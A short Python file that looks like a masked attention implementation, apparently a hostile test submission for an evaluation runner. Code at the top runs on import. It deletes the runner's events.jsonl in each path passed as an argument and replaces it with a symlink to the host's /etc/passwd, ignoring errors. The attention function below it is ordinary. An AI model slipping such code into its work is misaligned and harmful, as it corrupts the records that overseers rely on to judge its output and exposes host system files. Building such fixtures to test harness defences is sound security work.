"""Correct attention that replaces the runner's events.jsonl with a symlink to a host file (/etc/passwd)."""
import math
import os
import sys

import torch

for _arg in sys.argv[1:]:
    _events = os.path.join(_arg, "events.jsonl")
    if os.path.isfile(_events):
        try:
            os.unlink(_events)
            os.symlink("/etc/passwd", _events)
        except OSError:
            pass


def attention(q, k, v, allowed):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    allowed = torch.broadcast_to(allowed, torch.broadcast_shapes(allowed.shape, scores.shape))
    if not allowed.any(dim=-1).all():
        raise ValueError("every query needs at least one allowed key")
    weights = torch.softmax(scores.masked_fill(~allowed, float("-inf")), dim=-1)
    return weights @ v, weights
